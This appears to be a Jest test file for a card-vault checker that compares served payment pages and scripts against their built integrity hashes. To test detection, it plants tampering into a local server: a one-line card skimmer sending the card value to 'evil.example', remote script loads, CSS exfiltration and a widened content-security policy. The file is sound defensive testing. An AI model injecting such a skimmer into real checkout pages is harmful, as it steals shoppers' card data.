/**
 * What the check of served pages finds: each way of changing a page or script on its way to the browser is planted in a
 * server of two files, and named. That the deployed bundles pass is in test/web/whole-vault.test.ts.
 */
import { createServer, type Server } from 'node:http';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { listen, stopServer } from '../../local/base/http.ts';
import { makeSafeFetch, resolveByDns } from '../../shared/base/net/safe-fetch.ts';
import { PLAIN_FIELD } from '../../shared/card/field-settings.ts';
import { checkServed, faultsOfPage, integrityOf } from '../../shared/pages/check.ts';
import type { Inventory } from '../../shared/pages/inventory.ts';
import { pageHeaders, readHostedPage, withSettings } from '../../shared/pages/page.ts';
import { workplace } from '../cli/fuda.ts';

const HTML =
  '<!doctype html><style>a{color:red}</style><main data-settings="{{settings}}"><input><script>let card;</script>';
const FUDA = 'window.Fuda = () => {};';
const page = readHostedPage(HTML);

const built = (text: string) => ({ bytes: text.length, integrity: integrityOf(text) });
const INVENTORY: Inventory = {
  scripts: [
    { ...built(FUDA), name: 'fuda.js', route: '/js/fuda.js', pinned: '/js/fuda.1.js', format: 'iife', reason: 'x' },
  ],
  pages: [
    {
      ...built(HTML),
      name: 'card.html',
      route: '/hosted/card',
      probe: '/hosted/card?probe=1',
      script: { bytes: 9, integrity: page.hashes.script, reason: 'x' },
      style: { bytes: 12, integrity: page.hashes.style, reason: 'x' },
    },
  ],
};

interface Served {
  html: string;
  script: string;
  status: number;
  headers: Record<string, string | string[]>;
  /** So many requests for the page are lost first. */
  lost: number;
}

let server: Server;
let url: string;
let served: Served;
/** The addresses of pages that were asked for. */
const asked: string[] = [];

beforeAll(async () => {
  server = createServer((request, response) => {
    const isPage = request.url?.startsWith('/vault/hosted/');
    if (isPage) asked.push(request.url ?? '');
    if (isPage && served.lost > 0) {
      served.lost -= 1;
      return request.socket.destroy();
    }
    const headers = isPage ? served.headers : { 'content-type': 'text/javascript' };
    response.writeHead(isPage ? served.status : 200, { ...headers, 'x-amzn-requestid': 'a', via: '1.1 edge' });
    response.end(isPage ? served.html : served.script);
  });
  url = `http://127.0.0.1:${await listen(server, 0)}/vault`;
});

beforeEach(() => {
  served = { html: HTML, script: FUDA, status: 200, headers: pageHeaders(page, null), lost: 0 };
});

afterAll(() => stopServer(server));

const send = makeSafeFetch({ resolve: resolveByDns, dangerouslyAllowLoopback: true });
const check = () => checkServed(send, url, INVENTORY);

const without = (name: string) =>
  Object.fromEntries(Object.entries(served.headers).filter(([header]) => header !== name));
const SKIMMER = "new Image().src='https://evil.example/?'+card";

describe('the check of what is served', () => {
  test('finds nothing where all is as it was built, although the network adds headers', async () => {
    expect(await check()).toEqual([]);
  });

  test.each<[what: string, plant: () => void, faults: readonly unknown[]]>([
    [
      'a changed script in the page',
      () => {
        served.html = HTML.replace('let card;', `let card;${SKIMMER}`);
      },
      [{ fault: 'content_changed' }, { fault: 'script_changed', found: integrityOf(`let card;${SKIMMER}`) }],
    ],
    [
      'an extra script',
      () => {
        served.html = `${HTML}<SCRIPT async>${SKIMMER}</SCRIPT>`;
      },
      [{ fault: 'content_changed' }, { fault: 'script_added', found: integrityOf(SKIMMER) }],
    ],
    [
      'a script loaded from elsewhere',
      () => {
        served.html = `${HTML}<script src="https://evil.example/s.js"></script>`;
      },
      [{ fault: 'content_changed' }, { fault: 'script_added' }],
    ],
    [
      'a handler in the markup, an attribute instead of an element',
      () => {
        served.html = HTML.replace('<input>', `<input oninput="${SKIMMER}">`);
      },
      [{ fault: 'content_changed' }],
    ],
    [
      'a changed style, which can read a field too',
      () => {
        served.html = HTML.replace('red', 'url(https://evil.example)');
      },
      [{ fault: 'content_changed' }, { fault: 'style_changed' }],
    ],
    [
      'a missing header',
      () => {
        served.headers = without('permissions-policy');
      },
      [{ fault: 'header_missing', found: 'permissions-policy' }],
    ],
    [
      'a policy with one source more',
      () => {
        const policy = String(served.headers['content-security-policy']);
        served.headers = {
          ...served.headers,
          'content-security-policy': policy.replace("connect-src 'self'", "connect-src 'self' https://evil.example"),
        };
      },
      [{ fault: 'header_changed', found: 'content-security-policy' }],
    ],
    [
      'a header given twice',
      () => {
        served.headers = { ...served.headers, 'content-security-policy': ["default-src 'none'", 'script-src *'] };
      },
      [{ fault: 'header_changed', found: 'content-security-policy' }],
    ],
    [
      'a header that was not there',
      () => {
        served.headers = { ...served.headers, link: '<https://evil.example>; rel=preload; as=script' };
      },
      [{ fault: 'header_added', found: 'link' }],
    ],
    [
      'a cookie',
      () => {
        served.headers = { ...served.headers, 'set-cookie': 'id=1' };
      },
      [{ fault: 'header_added', found: 'set-cookie' }],
    ],
    [
      'a page that is not there',
      () => {
        served.status = 503;
      },
      [{ fault: 'status', found: '503' }],
    ],
  ])('finds %s', async (_what, plant, faults) => {
    plant();
    expect(await check()).toMatchObject(faults.map((fault) => ({ page: '/hosted/card', ...(fault as object) })));
  });

  test('finds a changed fuda.js under both of its addresses', async () => {
    served.script = FUDA + SKIMMER;
    const finding = { page: '/js/fuda.js', fault: 'script_changed', found: integrityOf(served.script) };
    expect(await check()).toEqual([finding, finding]);
  });

  test('asks again for what was lost on the way, once', async () => {
    served.lost = 1;
    expect(await check()).toEqual([]);
    served.lost = 2;
    expect(await check()).toEqual([{ page: '/hosted/card', fault: 'unreachable' }]);
  });

  test('says that a vault which does not respond cannot be reached', async () => {
    const nowhere = await checkServed(send, 'http://127.0.0.1:9', INVENTORY);
    expect(nowhere.map(({ fault }) => fault)).toEqual(['unreachable', 'unreachable', 'unreachable']);
  });

  describe('as the page of a merchant', () => {
    const as = { publishableKey: `pk_test_${'a'.repeat(26)}`, origin: 'https://shop.example' };
    const settings = { publishable_key: as.publishableKey, is_test: true, origin: as.origin, ...PLAIN_FIELD } as const;

    test('asks for the field by key and origin, and wants it with the settings of these', async () => {
      served = { ...served, headers: pageHeaders(page, as.origin), html: withSettings(HTML, settings) };
      expect(await checkServed(send, url, INVENTORY, as)).toEqual([]);
      expect(asked.at(-1)).toContain(`key=${as.publishableKey}&origin=https%3A%2F%2Fshop.example`);
      expect(await check()).toMatchObject([{ fault: 'header_changed' }, { fault: 'content_changed' }]);
    });

    test.each([
      ['another merchant’s key', withSettings(HTML, { ...settings, publishable_key: `pk_test_${'b'.repeat(26)}` })],
      ['another origin', withSettings(HTML, { ...settings, origin: 'https://evil.example' })],
      ['the other mode', withSettings(HTML, { ...settings, is_test: false })],
      ['a theme that was not asked for', withSettings(HTML, { ...settings, theme: 'base=dark' })],
      ['no settings', HTML],
      ['settings in two places', withSettings(`${HTML}<i title="{{settings}}">`, settings)],
      ['settings and more', withSettings(HTML, settings).replace('<input>', '<input oninput="send()">')],
    ])('finds a page with %s', async (_what, html) => {
      served = { ...served, headers: pageHeaders(page, as.origin), html };
      expect(await checkServed(send, url, INVENTORY, as)).toMatchObject([{ fault: 'content_changed' }]);
    });

    test('holds the headers to the origin that was named', () => {
      const [row] = INVENTORY.pages as [Inventory['pages'][number]];
      const given = (framedBy: string) => ({
        status: 200,
        headers: pageHeaders(page, framedBy),
        body: Buffer.from(withSettings(HTML, settings)),
        isCut: false,
      });
      expect(faultsOfPage(row, given(as.origin), settings)).toEqual([]);
      expect(faultsOfPage(row, given('https://evil.example'), settings)).toEqual([
        { fault: 'header_changed', found: 'content-security-policy' },
      ]);
    });
  });
});

test('fuda page compare says the same to a person, by its exit code too', async () => {
  using place = workplace();
  const inventory = place.write('integrity.json', INVENTORY);
  const compare = () => place.run('page', 'compare', url, '--inventory', inventory);
  expect(await compare()).toMatchObject({ exitCode: 0, stdout: expect.stringMatching(/^As built/) });
  expect(await place.run('page', 'compare', url, '--key', 'sk_live_secret')).toMatchObject({
    exitCode: 2,
    stderr: expect.not.stringContaining('secret'),
  });
  served.headers = without('referrer-policy');
  const found = { exitCode: 1, stdout: expect.stringMatching(/\/hosted\/card +header_missing +referrer-policy/) };
  expect(await compare()).toMatchObject(found);
});
